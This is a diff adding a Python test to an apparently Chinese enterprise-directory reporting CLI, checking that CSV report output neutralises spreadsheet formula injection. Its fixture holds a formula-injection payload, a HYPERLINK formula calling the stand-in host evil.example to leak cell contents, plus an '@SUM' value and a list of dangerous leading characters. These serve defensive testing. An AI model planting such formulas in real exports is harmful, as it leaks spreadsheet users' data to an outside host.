@@ -133,3 +133,29 @@ def test_report_commands_on_a_batch_database(tmp_path: Path) -> None:
     assert bad.exit_code == 2 and bad.output.count("\n") == 1 and "--district" in bad.output
     missing = CliRunner().invoke(cli, ["report", "coverage", "--db", str(tmp_path / "none.db")])
     assert missing.exit_code == 2 and "no such issuer database" in missing.output
+
+
+def test_report_csv_cells_are_never_formulas(tmp_path: Path) -> None:
+    """issue 9 item 11: names from a directory (or anywhere) that look like formulas are written with
+    a leading apostrophe in `report --format csv`; plain numbers, negative ones included, stay data."""
+    firm = anxinma.Enterprise(
+        "91330203MA2H123450", '=HYPERLINK("http://evil.example/?"&A1)', "@SUM(A1)", "330203"
+    )
+    held = anxinma.Directory(1, NOW, NOW + dt.timedelta(days=365), (firm,))
+    signed, root = tmp_path / "dir.cwt", tmp_path / "root.pub.pem"
+    signed.write_bytes(held.sign(ROOT))
+    root.write_bytes(public_key_pem(ROOT))
+    with new_db(tmp_path / "issuer.db") as db:
+        options = BatchOptions(out=tmp_path / "out", image=None, jobs=1)
+        run_batch(population_csv(20), source="w.csv", key=KEY_A, db=db, options=options, now=NOW)
+    base = ["--db", str(tmp_path / "issuer.db"), "--now", "2026-12-01T12:00:00+08:00", "--format", "csv"]
+    base += ["--directory", str(signed), "--root", str(root)]
+    cli = Cli(commands=[report_group])
+    for command in ("coverage", "ranking"):
+        out = CliRunner().invoke(cli, ["report", command, *base])
+        assert out.exit_code == 0, out.output
+        cells = [cell for row in csv.reader(io.StringIO(out.output)) for cell in row]
+        assert '\'=HYPERLINK("http://evil.example/?"&A1)' in cells and "'@SUM(A1)" in cells
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    table = render_table("t", ["a", "b", "c", "d", "e"], [["-3", "-0.5", "12.5%", "-", "-A1"]], "csv")
+    assert table.splitlines()[1] == "-3,-0.5,12.5%,'-,'-A1"
